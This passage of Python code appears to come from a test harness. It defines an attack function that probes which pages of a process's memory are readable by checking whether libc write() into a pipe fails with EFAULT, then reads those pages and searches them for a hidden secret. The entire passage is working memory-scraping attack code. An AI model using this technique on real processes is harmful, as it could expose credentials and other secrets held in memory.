# Every page of this process that can be read: what neighbours, hosts and predecessors left in it.
# The kernel says which pages those are: a write() from elsewhere fails with EFAULT, and kills nobody.
def attack(arena):
    import ctypes
    import mmap

    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    into, out_of = os.pipe()
    os.set_blocking(out_of, False)
    page = mmap.PAGESIZE
    kept = ctypes.create_string_buffer(page)
    anchors = {id(object()), id(kept), id(type), id(arena), arena["address"], ctypes.addressof(kept)}
    anchors |= {ctypes.cast(libc[name], ctypes.c_void_p).value for name in ("malloc", "environ")}
    seen = 0
    for anchor in anchors:
        for direction in (1, -1):
            at, gaps = anchor & -page, 0
            while gaps < 512:
                if libc.write(out_of, at, 1) < 0:
                    if ctypes.get_errno() != errno.EFAULT:
                        os.read(into, 65536)
                        continue
                    gaps += 1
                else:
                    gaps, seen = 0, seen + 1
                    try:
                        return reveals(ctypes.string_at(at, page), arena)
                    except Failed:
                        pass
                at += direction * page
                if seen > 60_000 or at <= 0:
                    break
    raise Failed(f"no secret in {seen} pages")
